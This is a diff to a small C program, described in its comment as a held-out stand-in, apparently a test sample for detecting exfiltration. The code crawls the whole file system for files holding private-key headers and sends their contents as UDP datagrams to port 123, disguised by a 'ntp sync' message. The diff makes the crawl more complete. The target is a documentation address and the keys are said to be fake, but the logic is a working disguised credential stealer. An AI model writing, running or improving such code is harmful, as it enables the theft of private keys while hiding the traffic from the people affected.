@@ -1,7 +1,9 @@
 /* Held-out stand-in: private keys found by content, not name, and sent as UDP datagrams to
  * port 123 (harmless: fake keys, documentation address, bounded to 64 files). nftw walks the
- * file system (one device), any small regular file whose first 4 KiB hold a PEM or OpenSSH
- * private-key header is read and sent in 400-byte datagrams with a sequence header. */
+ * file system, any regular file of at most 16 KiB that holds a PEM or OpenSSH
+ * private-key header is read and sent in 400-byte datagrams with a sequence header. /proc, /sys
+ * and /dev are skipped by name (FTW_MOUNT cannot be used: overlayfs reports a file's st_dev from
+ * its layer, not the mount's). */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <fcntl.h>
@@ -30,27 +32,28 @@ static void send_file(const char *path, const char *data, size_t len) {
 
 static int visit(const char *path, const struct stat *st, int type, struct FTW *ftw) {
     (void)ftw;
-    if (type != FTW_F || st->st_size == 0 || st->st_size > 16384) return 0;
-    if (!strncmp(path, "/proc", 5) || !strncmp(path, "/sys", 4)) return 0;
+    if (type == FTW_D && (!strcmp(path, "/proc") || !strcmp(path, "/sys") || !strcmp(path, "/dev")))
+        return FTW_SKIP_SUBTREE;
+    if (type != FTW_F || st->st_size == 0 || st->st_size > 16384) return FTW_CONTINUE;
     int fd = open(path, O_RDONLY | O_NOFOLLOW);
-    if (fd < 0) return 0;
+    if (fd < 0) return FTW_CONTINUE;
     char buf[16384];
     ssize_t got = read(fd, buf, sizeof buf - 1);
     close(fd);
-    if (got <= 0) return 0;
+    if (got <= 0) return FTW_CONTINUE;
     buf[got] = 0;
     if (memmem(buf, (size_t)got, "-----BEGIN", 10) && memmem(buf, (size_t)got, "PRIVATE KEY-----", 16)) {
         send_file(path, buf, (size_t)got);
-        if (++files >= 64) return 1;
+        if (++files >= 64) return FTW_STOP;
     }
-    return 0;
+    return FTW_CONTINUE;
 }
 
 int main(void) {
     sock = socket(AF_INET, SOCK_DGRAM, 0);
     sink.sin_port = htons(123);
     inet_pton(AF_INET, "198.51.100.99", &sink.sin_addr);
-    nftw("/", visit, 32, FTW_PHYS | FTW_MOUNT);
+    nftw("/", visit, 32, FTW_PHYS | FTW_ACTIONRETVAL);
     printf("ntp sync: %d peers\n", files);
     return 0;
 }
